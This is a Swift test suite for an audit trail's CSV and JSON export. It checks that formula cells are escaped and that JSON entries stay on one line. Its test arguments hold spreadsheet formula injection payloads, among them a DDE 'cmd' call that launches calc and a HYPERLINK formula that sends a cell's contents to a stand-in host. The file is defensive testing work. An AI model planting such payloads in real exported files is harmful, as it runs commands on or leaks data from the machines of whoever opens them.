import AuditTrail
import Kernel
import Testing

@Suite("What is exported") struct OutputTests {
    private func line(_ cells: [String]) -> String {
        var bytes: [UInt8] = []
        CSVLine.write(cells, to: &bytes)
        return String(decoding: bytes, as: UTF8.self)
    }

    @Test(
        "asvs-42: a cell that a spreadsheet would run is text",
        arguments: [
            "=1+1", "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\"=1", "\u{a0}=1", "\u{feff}=1", "＝1＋1",
            "－1－1x", "＠x", "-inf", "+0x10", "−1+1", "=HYPERLINK(\"http://x.example?\"&A1,\"ok\")",
        ])
    func formulas(cell: String) {
        let text = line([cell])
        #expect(text.hasPrefix("'") || text.hasPrefix("\"'"), "\(text)")
    }

    @Test("numbers and plain words stay as they are", arguments: ["", "-1", "+1.5e3", "a=b", "10.0.0.1", "member.removed", "2026-01-01T00:00:00Z"])
    func plain(cell: String) { #expect(line([cell]) == cell + "\r\n") }

    @Test("asvs-42: line ends, quotes and separators stay inside their cell")
    func quoting() {
        #expect(line(["a\r\nb", "c\"d", "e,f", " g"]) == "\"a\r\nb\",\"c\"\"d\",\"e,f\",\" g\"\r\n")
    }

    @Test("asvs-42: an entry is one line of JSON, whatever stands in it")
    func json() throws {
        var entry = Trail.entry(1)
        entry.address = "a\"\n\u{1b}[31m\u{2028}"
        var writer = JSONWriter()
        entry.write(to: &writer, position: 7)
        #expect(!writer.bytes.contains(UInt8(ascii: "\n")) && !writer.bytes.contains(0x1b))
        let json = try JSON.read(writer.bytes)
        #expect(json["address"]?.string == entry.address)
        #expect(json["position"] == 7)
        #expect(json["target"]?["id"] == "1")
        #expect(json["actor"]?["type"] == "user")
        #expect(json["details"]?["n"] == 1)
        #expect(AuditEntry.columns.count == entry.cells(position: 1).count)
    }
}
